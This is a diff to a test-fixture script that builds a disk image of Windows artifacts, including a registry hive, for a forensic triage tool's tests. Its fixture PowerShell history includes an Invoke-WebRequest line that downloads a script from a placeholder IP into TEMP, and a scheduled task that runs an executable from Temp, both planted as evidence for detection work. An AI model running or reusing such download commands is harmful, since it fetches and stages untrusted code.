@@ -16,7 +16,7 @@
 # sample.img copies real files from $TRIAGE_TEST_DATA (default ../../shared/fixtures beside the
 # project); without them the script stops (the copies are part of the checksum).
 #
-# Needs: e2fsprogs, dosfstools, mtools, sfdisk, faketime, perl, coreutils.
+# Needs: e2fsprogs, dosfstools, mtools, sfdisk, faketime, perl, hivexsh (libhivex-bin), coreutils.
 set -euo pipefail
 
 here=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
@@ -32,7 +32,8 @@ fx=$(cd "$fx" && pwd)
 
 # shellcheck source=tests/data/fixtures-lib.bash
 . "$here/fixtures-lib.bash"
-fixture_setup mkartifacts.sh mke2fs debugfs dumpe2fs mkfs.vfat mcopy mmd sfdisk faketime perl
+fixture_setup mkartifacts.sh mke2fs debugfs dumpe2fs mkfs.vfat mcopy mmd sfdisk faketime perl \
+    hivexsh
 
 # ------------------------------------------------------------------------------ sample.img p1
 build_linux() {
@@ -132,18 +133,55 @@ EOF
 }
 
 # ------------------------------------------------------------------------------ sample.img p2
+# software_hive OUT: a small real SOFTWARE hive whose ProfileList names the volume's one user
+# (Bob, Users/Bob) and the system profile, so triage-extract reads SIDs from it and warns about
+# nothing.  It is a copy of the shared fixtures' SECURITY hive (regipy, MIT) with
+# Microsoft\Windows NT\CurrentVersion added by hivexsh; its other keys stay those of SECURITY.
+# hivex writes no clock or random value (new keys take their parent's last-written time, the
+# header's sequence numbers are counted up, its timestamp is left alone); faketime anyway.
+software_hive() {
+    local hive=$1
+    cp "$fx/artifacts/registry/regipy/SECURITY" "$hive"
+    chmod u+w "$hive"
+    faketime "$FROZEN" hivexsh -w "$hive" <<'EOF'
+add Microsoft
+cd Microsoft
+add Windows NT
+cd Windows NT
+add CurrentVersion
+cd CurrentVersion
+setval 1
+SystemRoot
+string:C:\Windows
+add ProfileList
+cd ProfileList
+add S-1-5-18
+cd S-1-5-18
+setval 1
+ProfileImagePath
+expandstring:%systemroot%\system32\config\systemprofile
+cd ..
+add S-1-5-21-3623811015-3361044348-30300820-1001
+cd S-1-5-21-3623811015-3361044348-30300820-1001
+setval 1
+ProfileImagePath
+expandstring:C:\Users\Bob
+commit
+EOF
+}
+
 build_windows() {
     local s=$work/win img=$work/win.img d
     local u='Users/Bob' ad='Users/Bob/AppData'
     mkdir -p "$s"
     printf 'regf fake SYSTEM hive for triage tests\r\n' > "$s/SYSTEM"
-    printf 'regf fake SOFTWARE hive for triage tests\r\n' > "$s/SOFTWARE"
     printf 'regf fake UsrClass.dat for triage tests\r\n' > "$s/UsrClass.dat"
     # shellcheck disable=SC2016  # a PowerShell variable, literal
     printf 'Get-Process\r\nInvoke-WebRequest http://203.0.113.7/p.ps1 -OutFile $env:TEMP\\p.ps1\r\n' \
         > "$s/ConsoleHost_history.txt"
     printf '<?xml version="1.0" encoding="UTF-16"?>\r\n<Task><Actions><Exec><Command>C:\\Users\\Bob\\AppData\\Local\\Temp\\upd.exe</Command></Exec></Actions></Task>\r\n' \
         > "$s/Updater"
+    software_hive "$s/SOFTWARE"
     cp "$fx/artifacts/registry/plaso/SAM" "$s/SAM"
     cp "$fx/artifacts/registry/regipy/SECURITY" "$s/SECURITY"
     cp "$fx/artifacts/registry/plaso/NTUSER.DAT" "$s/NTUSER.DAT"
